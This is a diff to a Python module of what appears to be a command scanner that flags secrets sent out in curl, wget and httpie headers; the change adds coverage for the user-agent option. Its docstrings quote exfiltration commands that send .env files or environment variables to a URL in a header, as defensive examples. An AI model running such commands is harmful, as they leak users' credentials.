@@ -10,6 +10,7 @@ sent like a body (``shell.exfiltration``):
   ``curl -H "X-Data: $(cat .env)" URL``, ``wget --header="Cookie: $(env | base64 -w0)" URL``,
   ``k=$(cat .env); curl -H "X: $k" URL``, httpie/xh ``Authorization:$(cat .env)`` (no
   service takes a whole ``.env`` or environment as its credential);
+* the same in ``curl -A``/``--user-agent`` (sent as the ``User-Agent`` header);
 * a credential printer's output (``gh auth token``, ``gcloud auth print-access-token``) in a
   header whose name is not an auth header (``X-Data: $(gh auth token)``). In an auth header
   (``Authorization``, ``X-Api-Key``, ``PRIVATE-TOKEN``, ``Cookie``...) or a credential
@@ -27,10 +28,10 @@ reach this module, and only when an argument carries taint.
 from __future__ import annotations
 
 from ._secrets import HTTP_CLIENTS, PRINTER_NAMES
-from ._values import Source
+from ._values import Source, Taint
 from ._words import Field
 
-__all__ = ["header_data"]
+__all__ = ["auth_header", "header_data"]
 
 # Options whose value is a header.
 _HEADER = frozenset({"-H", "--header"})
@@ -48,15 +49,15 @@ _AUTH_PIECES = ("auth", "token", "key", "cookie", "session", "secret", "pass", "
                 "signature", "bearer", "jwt")
 
 
-def _auth_header(text: str) -> bool:
+def auth_header(text: str) -> bool:
     """``text`` (``Name: value``) is an auth header (``Authorization``, ``X-Api-Key``...)."""
     name = text.partition(":")[0].strip().lower()
     return any(p in name for p in _AUTH_PIECES)
 
 
-def _sent(f: Field, auth: bool, out: list[Source]) -> None:
-    """Add the secret data sources of ``f`` (a header or credential value) to ``out``."""
-    for src in f.taint:
+def _sent(taint: Taint, auth: bool, out: list[Source]) -> None:
+    """Add the secret data sources of ``taint`` (a header or credential value's) to ``out``."""
+    for src in taint:
         if src.kind != "secret" or src.program.startswith("$"):
             continue  # secret variables: _hdrsecret
         if auth and (src.program in PRINTER_NAMES or src.program in HTTP_CLIENTS or
@@ -65,8 +66,10 @@ def _sent(f: Field, auth: bool, out: list[Source]) -> None:
         out.append(src)
 
 
-def header_data(args: list[Field]) -> list[Source]:
-    """Secret data sources that ``args`` send in headers or credential options (module doc)."""
+def header_data(name: str, args: list[Field]) -> list[Source]:
+    """Secret data sources that ``name args`` send in headers or credential options (module
+    doc). An option and its value are read together: ``h=(-H "X: $(cat .env)"); curl
+    "${h[@]}"`` may carry the array's taint on the option word."""
     if not any(f.taint for f in args):
         return []
     out: list[Source] = []
@@ -78,25 +81,29 @@ def header_data(args: list[Field]) -> list[Source]:
         opt, eq, _val = t.partition("=")
         if t.startswith("--") and eq:
             if opt in _HEADER and f.taint:
-                _sent(f, _auth_header(t[len(opt) + 1:]), out)  # --header=V
+                _sent(f.taint, auth_header(t[len(opt) + 1:]), out)  # --header=V
             elif opt in _CREDENTIAL and f.taint:
-                _sent(f, True, out)
-        elif t in _HEADER or t in _CREDENTIAL:
-            if i + 1 < n and args[i + 1].taint:
+                _sent(f.taint, True, out)
+            elif opt == "--user-agent" and f.taint:
+                _sent(f.taint, False, out)
+        elif t in _HEADER or t in _CREDENTIAL or t == "--user-agent" or (
+                t == "-A" and name == "curl"):
+            if i + 1 < n:
                 value = args[i + 1]
-                _sent(value, t in _CREDENTIAL or _auth_header(value.text), out)
+                auth = t in _CREDENTIAL or (t in _HEADER and auth_header(value.text))
+                _sent(f.taint | value.taint, auth, out)
             i += 2
             continue
         elif t[:1] == "-" and t[1:2] != "-" and len(t) > 2:
             if t[1] in "Hu" and f.taint:  # -H'X: y' attached
-                _sent(f, t[1] == "u" or _auth_header(t[2:]), out)
+                _sent(f.taint, t[1] == "u" or auth_header(t[2:]), out)
             elif t[1:].isalpha() and t[-1] in "Hu" and i + 1 < n:  # -sSH 'X: ...'
-                if args[i + 1].taint:
-                    _sent(args[i + 1], t[-1] == "u" or _auth_header(args[i + 1].text), out)
+                value = args[i + 1]
+                _sent(f.taint | value.taint, t[-1] == "u" or auth_header(value.text), out)
                 i += 2
                 continue
         elif f.taint and ":" in t and t[:1] != "-" and "://" not in t and \
                 t.partition(":")[0].lower() in _ITEM_HEADERS:
-            _sent(f, True, out)  # httpie / xh item: Authorization:$(cat .env)
+            _sent(f.taint, True, out)  # httpie / xh item: Authorization:$(cat .env)
         i += 1
     return out
